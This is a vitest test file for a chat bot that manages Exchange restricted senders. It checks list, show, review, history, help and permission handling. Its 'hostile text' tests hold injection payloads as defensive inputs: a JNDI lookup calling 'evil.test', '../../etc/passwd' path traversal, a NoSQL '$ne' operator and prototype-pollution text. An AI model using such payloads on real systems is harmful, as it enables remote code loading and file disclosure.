import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { minuteMilliseconds } from '../../../src/domain/instant.js'
import { parseReason } from '../../../src/domain/reason.js'
import type { Tenant } from '../../../src/domain/tenant.js'
import { countUnblocks, createSender, restrict, unblock } from '../acts.js'
import { contoso, laura, maya, nobody, olga, stranger, tom, vera } from '../people.js'
import { createStage, type Stage, toView } from '../stage.js'

const sam = createSender('sam@contoso.com')
const relay = {
  ...sam,
  entity: { kind: 'connector', connectorId: '8f2c-11', name: 'Head office' } as const,
  reason: parseReason(''),
}

let stage: Stage
beforeEach(async () => {
  stage = await createStage()
})
afterEach(async () => {
  await stage.close()
})

const readNotice = async (text: string, actor = vera) => toView(await stage.command(actor, text), 'notice')

describe('list', () => {
  test('says what is restricted now, the worst and oldest first, and how fresh that is', async () => {
    await restrict(stage, sam)
    await restrict(stage, relay)
    const view = toView(await stage.command(vera, 'list'), 'list')
    expect(view).toMatchObject({
      countText: '2 restrictions',
      pollText: 'Last good poll 03:16 UTC, 0 s ago',
      previousCommand: '',
      nextCommand: '',
    })
    expect(view.rows.map(({ entity, statusWord }) => [entity, statusWord])).toEqual([
      ['Head office', 'Unclear'],
      ['sam@contoso.com', 'Looks like bulk mail'],
    ])
  })

  test('says that nobody is restricted when that is so', async () => {
    const view = toView(await stage.command(vera, 'list'), 'list')
    expect(view).toMatchObject({ rows: [], emptyText: 'Nobody is restricted.', countText: '0 restrictions' })
  })

  test.each([
    ['list sam', ['sam@contoso.com']],
    ['list SAM@CONTOSO.COM', ['sam@contoso.com']],
    ['list <mailto:sam@contoso.com|sam@contoso.com>', ['sam@contoso.com']],
    ['list connectors', ['Head office']],
    ['list 8f2c', ['Head office']],
    ['list tenant=conto senders', ['sam@contoso.com']],
    ['list nothing', []],
  ])('%s', async (text, wanted) => {
    await restrict(stage, sam)
    await restrict(stage, relay)
    const view = toView(await stage.command(vera, text), 'list')
    expect(view.rows.map(({ entity }) => entity)).toEqual(wanted)
    expect(view.countText).toContain('of 2 match')
  })

  test('keeps its filter from page to page, and takes a page too far for the last', async () => {
    for (let number = 1; number <= 11; number += 1)
      stage.backend.restrict(createSender(`p${number}@contoso.com`))
    stage.backend.restrict(relay)
    await stage.advance(minuteMilliseconds)
    const first = toView(await stage.command(vera, 'list senders p tenant=contoso'), 'list')
    expect(first.countText).toBe('11 restrictions of 12 match, page 1 of 2')
    const second = toView(await stage.command(vera, first.nextCommand), 'list')
    expect(second.rows).toHaveLength(1)
    expect(second.nextCommand).toBe('')
    const back = toView(await stage.command(vera, second.previousCommand), 'list')
    expect(back.rows).toEqual(first.rows)
    expect(toView(await stage.command(vera, 'list page 99'), 'list').countText).toContain('page 2 of 2')
  })

  test('refuses a page that is none, in words', async () => {
    const notice = await readNotice('list page two')
    expect(notice.text).toBe('"two" is not a page. Say a whole number, such as page 2.')
  })
})

describe('show', () => {
  test.each([
    'show sam@contoso.com',
    'show SAM@contoso.com',
    'show <mailto:sam@contoso.com|sam@contoso.com>',
    'show "sam@contoso.com"',
    'show Sam <sam@contoso.com>',
  ])('%s tells everything, with what happened', async (text) => {
    const incident = await restrict(stage, sam)
    await unblock(stage, maya, incident)
    const view = toView(await stage.command(vera, text), 'show')
    expect(view).toMatchObject({
      incidentId: incident.id,
      statusWord: 'Unblocked, watching',
      canReview: false,
    })
    expect(view.timeline.map((row) => row.text)).toEqual([
      'Seen on the Restricted entities list',
      'Evidence gathered',
      'Verdict: looks like bulk mail',
      'Review opened by Maya',
      'Recommendations answered by Maya',
      'Unblock confirmed by Maya',
      'Exchange asked to unblock by Maya',
      'Unblocked by Maya',
    ])
  })

  test.each(['show 8F2C-11', 'show {8f2c-11}', 'show head office'])('%s finds a connector', async (text) => {
    await restrict(stage, relay)
    expect(toView(await stage.command(vera, text), 'show').entity).toBe('Head office')
  })

  test('finds what is over, by address and by incident', async () => {
    const { id } = await restrict(stage, sam)
    stage.backend.clear(sam.entity)
    await stage.advance(minuteMilliseconds + 20_000)
    for (const text of ['show sam@contoso.com', `show ${id}`])
      expect(toView(await stage.command(vera, text), 'show')).toMatchObject({
        incidentId: id,
        statusWord: 'Left the list',
      })
  })

  test('says so when it has never seen the entity, and what may be meant', async () => {
    await restrict(stage, sam)
    expect((await readNotice('show san@contoso.com')).text).toContain('Did you mean sam@contoso.com?')
    expect((await readNotice('show zoe@fabrikam.com')).text).toMatch(
      /^zoe@fabrikam\.com is not on the Restricted entities list as read at \d\d:\d\d UTC, and Reprieve has no record of it\. Type reprieve list to see/,
    )
    expect((await readNotice('show')).text).toContain('Say which sender or connector')
  })

  test('asks which tenant is meant when more than one is', async () => {
    const fabrikam: Tenant = { ...contoso, id: 'fabrikam', name: 'Fabrikam' }
    const two = await createStage({
      tenants: [contoso, fabrikam],
      prepare: (backend) => backend.restrict(sam),
    })
    await two.advance(minuteMilliseconds)
    expect(toView(await two.command(vera, 'show sam@contoso.com'), 'notice').text).toContain('in 2 tenants')
    const list = toView(await two.command(vera, 'list sam@contoso.com'), 'list')
    expect(list.rows.map(({ tenantName }) => tenantName).toSorted()).toEqual(['Contoso', 'Fabrikam'])
    await two.close()
  })
})

describe('a tenant', () => {
  const labs: Tenant = { ...contoso, id: 'labs', name: 'Contoso Labs' }
  const fabrikam: Tenant = { ...contoso, id: 'fabrikam', name: 'Fabrikam Ltd' }
  let three: Stage
  beforeEach(async () => {
    three = await createStage({ tenants: [contoso, labs, fabrikam], prepare: (each) => each.restrict(sam) })
    await three.advance(minuteMilliseconds)
  })
  afterEach(async () => {
    await three.close()
  })

  test.each([
    ['Contoso', 'Contoso'],
    ['contoso labs', 'Contoso Labs'],
    ['LABS', 'Contoso Labs'],
    ['Fabrikam Ltd', 'Fabrikam Ltd'],
    ['fab', 'Fabrikam Ltd'],
  ])('that is called %j is the same one for list, policies and doctor', async (typed, name) => {
    const list = toView(await three.command(vera, `list tenant ${typed}`), 'list')
    expect(list.rows.map(({ tenantName }) => tenantName)).toEqual([name])
    expect(toView(await three.command(vera, `policies ${typed}`), 'policies').title).toBe(
      `Settings of ${name}`,
    )
    const { sections } = await three.bot().runDoctor(olga, { tenant: typed, postsTestCards: false })
    expect(sections.map((section) => section.name)).toContain(name)
  })

  test('and an address behind it are told apart', async () => {
    const list = async (text: string) => toView(await three.command(vera, text), 'list')
    expect((await list('list tenant Contoso Labs sam@ senders')).rows).toHaveLength(1)
    expect((await list('list tenant "Contoso Labs" tom@')).rows).toHaveLength(0)
  })

  test.each(['list tenant con', 'policies con'])(
    'that may be several is not guessed by %j',
    async (typed) => {
      expect(toView(await three.command(vera, typed), 'notice').text).toContain(
        '"con" fits several tenants: Contoso, Contoso Labs (labs). Say the id or the name of one in full.',
      )
    },
  )

  test.each(['list tenant nowhere', 'policies nowhere'])(
    'that is none is no empty answer to %j',
    async (typed) => {
      expect(toView(await three.command(vera, typed), 'notice').text).toContain(
        'No tenant is called "nowhere". There are: Contoso, Contoso Labs (labs), Fabrikam Ltd (fabrikam).',
      )
    },
  )
})

describe('review', () => {
  test('opens the same wizard as the button', async () => {
    const { id } = await restrict(stage, sam)
    expect(toView(await stage.command(tom, 'review sam@contoso.com'), 'overview').incidentId).toBe(id)
    await stage.idle()
    expect((await stage.incidents())[0]?.taken?.by.name).toBe('Tom')
  })

  test('of what is over says so', async () => {
    await restrict(stage, sam)
    stage.backend.clear(sam.entity)
    await stage.advance(minuteMilliseconds + 20_000)
    expect((await readNotice('review sam@contoso.com', tom)).text).toMatch(
      /^This is over since .*lifted elsewhere/,
    )
  })
})

describe('history', () => {
  test('has what is over, newest first, of all or of one', async () => {
    const kim = createSender('kim@contoso.com')
    for (const one of [sam, kim]) {
      await restrict(stage, one)
      stage.backend.clear(one.entity)
      await stage.advance(minuteMilliseconds + 20_000)
    }
    const all = toView(await stage.command(vera, 'history'), 'history')
    expect(all.rows.map(({ entity }) => entity)).toEqual(['kim@contoso.com', 'sam@contoso.com'])
    expect(all.rows[0]?.outcomeText).toContain('Left the list, seen')
    // The time of day stands in how it ended, and a long address breaks before its domain.
    expect(all.rows[0]).toMatchObject({ dayText: '2026-11-22', localPart: 'kim', domainPart: '@contoso.com' })
    const one = toView(await stage.command(vera, 'history <mailto:SAM@contoso.com|sam>'), 'history')
    expect(one.rows.map(({ entity }) => entity)).toEqual(['sam@contoso.com'])
    const none = toView(await stage.command(vera, 'history zoe@contoso.com'), 'history')
    expect(none).toMatchObject({ rows: [], emptyText: 'Nothing about zoe@contoso.com has ended yet.' })
  })
})

describe('status', () => {
  test('has a row for looks, work, each platform and the store', async () => {
    const view = toView(await stage.command(vera, 'status'), 'status')
    expect(view.summary).toBe('Everything works.')
    expect(view.rows.map(({ name, word }) => [name, word])).toEqual([
      ['Slack', 'works'],
      ['Teams', 'works'],
      ['Work', 'works'],
      ['Store', 'works'],
      ['Polls of Contoso', 'works'],
    ])
  })
})

describe('help', () => {
  test('offers each person what they may do, and nothing else', async () => {
    const readVerbs = async (actor: typeof maya) =>
      toView(await stage.command(actor, 'help'), 'help').rows.map(({ command }) => command.split(' ')[0])
    expect(await readVerbs(nobody)).not.toContain('list')
    expect(await readVerbs(vera)).toEqual(
      expect.arrayContaining(['list', 'show', 'history', 'status', 'help']),
    )
    expect(await readVerbs(vera)).not.toContain('review')
    expect(await readVerbs(olga)).toContain('review')
  })

  test('comes with what was probably meant after a typo', async () => {
    const { suggestion } = toView(await stage.command(vera, 'lsit everything'), 'help')
    expect(suggestion).toBe('There is no command "lsit". Did you mean reprieve list everything?')
    expect(toView(await stage.command(vera, 'sing'), 'help').suggestion).toBe('There is no command "sing".')
  })
})

describe('who may not', () => {
  test.each([
    ['list', nobody, 'no-role', 'list'],
    ['show sam@contoso.com', nobody, 'no-role', 'show'],
    ['show nowhere@contoso.com', nobody, 'no-role', 'show'],
    ['review sam@contoso.com', vera, 'no-role', 'review'],
    ['list', stranger, 'not-home', 'list'],
    ['help', stranger, 'not-home', 'help'],
    ['sing', stranger, 'not-home', 'unknown'],
    ['review sam@contoso.com', { ...maya, isMember: false }, 'not-home', 'review'],
  ])('%s is refused, privately, and journalled by its verb alone', async (text, actor, reason, action) => {
    await restrict(stage, sam)
    const seen = stage.slack.sent.length + stage.teams.sent.length
    const notice = toView(await stage.command(actor, text), 'notice')
    await stage.advance(5_000)
    expect(notice.title).toBe('Not done')
    expect(JSON.stringify(notice)).not.toContain('sam@contoso.com')
    expect(stage.slack.sent.length + stage.teams.sent.length).toBe(seen)
    const [refused] = (await stage.journal()).filter(({ type }) => type === 'command.refused')
    expect(refused).toMatchObject({ by: { id: actor.id }, data: { reason, action } })
  })

  test('the restricted person reads as everybody does', async () => {
    await restrict(stage, createSender('laura@contoso.com'))
    expect(toView(await stage.command(laura, 'show laura@contoso.com'), 'show').canReview).toBe(true)
  })
})

describe('what was typed and refused', () => {
  const secret = 'Winter2026!hunter2'

  test.each([
    [stranger, secret],
    [stranger, `list ${secret}`],
    [nobody, `/restricted show ${secret}`],
    [maya, `review ${secret}`],
    [maya, `list kind=${secret}`],
    [maya, `policies ${secret}`],
    [maya, `doctor ${secret}`],
  ])('by %o is kept in no journal and no log: %s', async (actor, text) => {
    await stage.command(actor, text)
    await stage.press(actor, 'command', { values: { text } })
    await stage.press(actor, 'show', { incidentId: `${secret} ` })
    expect((await stage.journal()).filter(({ type }) => type.endsWith('.refused'))).toHaveLength(3)
    expect(JSON.stringify([await stage.journal(), stage.log])).not.toContain('hunter2')
  })

  test('is kept in no log when the command failed either', async () => {
    stage.store().beforeCommit(() => {
      throw new TypeError('bug')
    })
    await restrict(stage, sam).catch(() => {})
    await stage.command(maya, `policies refresh`)
    await stage.command(maya, `review sam@contoso.com ${secret}`)
    expect(JSON.stringify(stage.log)).not.toContain('hunter2')
    stage.store().beforeCommit(() => {})
  })
})

describe('hostile text', () => {
  test.each([
    `show ${'x'.repeat(5_000)}`,
    'show __proto__',
    'list ${jndi:ldap://evil.test}',
    'show <!channel> <@U1>',
    'show \u202emoc.osotnoc@mas',
    'list \u0000\u0007',
    'x'.repeat(20_000),
    '../../etc/passwd',
    'history {"$ne":null}',
  ])('%j is answered in words and harms nothing', async (text) => {
    await restrict(stage, sam)
    const card = await stage.command(maya, text)
    expect(['notice', 'list', 'help', 'history']).toContain(card?.name)
    expect(stage.log.filter(({ level }) => level === 'error')).toEqual([])
    expect(await stage.incidents()).toHaveLength(1)
    expect(countUnblocks(stage)).toBe(0)
    for (const { fields } of stage.log) expect(JSON.stringify(fields).length).toBeLessThan(1_000)
  })

  test('from Exchange is carried as it is, for templates to make dead', async () => {
    const address = '<!channel>&*x*@contoso.com'
    const incident = await restrict(stage, createSender(address))
    expect(toView(await stage.command(vera, `show ${address}`), 'show').entity).toBe(address)
    expect(toView(await stage.press(vera, 'show', { incidentId: incident.id }), 'show').entity).toBe(address)
  })
})

describe('home', () => {
  test('tells what nobody is on from what this reader is on, and from what others are on', async () => {
    await restrict(stage, createSender('laura@contoso.com'))
    const own = await restrict(stage, sam)
    await stage.press(maya, 'claim', { incidentId: own.id })
    const read = async (actor: typeof maya) => toView(await stage.bot().handlers.onHome(actor), 'home')
    const toNames = (rows: readonly { entity: string }[]) => rows.map(({ entity }) => entity)
    const [hers, his] = [await read(maya), await read(tom)]
    expect([toNames(hers.nobody), toNames(hers.waiting)]).toEqual([
      ['laura@contoso.com'],
      ['sam@contoso.com'],
    ])
    expect([toNames(his.nobody), toNames(his.others)]).toEqual([['laura@contoso.com'], ['sam@contoso.com']])
    expect(his.others[0]?.canReview).toBe(true)
  })

  test('has what waits for this reader, and the rest without a button', async () => {
    await restrict(stage, createSender('laura@contoso.com'))
    await restrict(stage, sam)
    const read = async (actor: typeof maya) => toView(await stage.bot().handlers.onHome(actor), 'home')
    expect((await read(maya)).nobody.map(({ entity }) => entity)).toEqual([
      'laura@contoso.com',
      'sam@contoso.com',
    ])
    const own = await read(laura)
    expect(own).toMatchObject({
      waiting: [],
      roleText: expect.stringContaining('Your own mailbox') as string,
    })
    expect(own.others).toMatchObject([
      { entity: 'laura@contoso.com', canReview: false },
      { entity: 'sam@contoso.com', canReview: false },
    ])
    expect(await read(vera)).toMatchObject({
      nobody: [],
      waiting: [],
      summary: '2 restrictions wait for a review.',
    })
    for (const actor of [nobody, stranger])
      expect(await read(actor)).toMatchObject({ canRead: false, waiting: [], others: [] })
  })
})
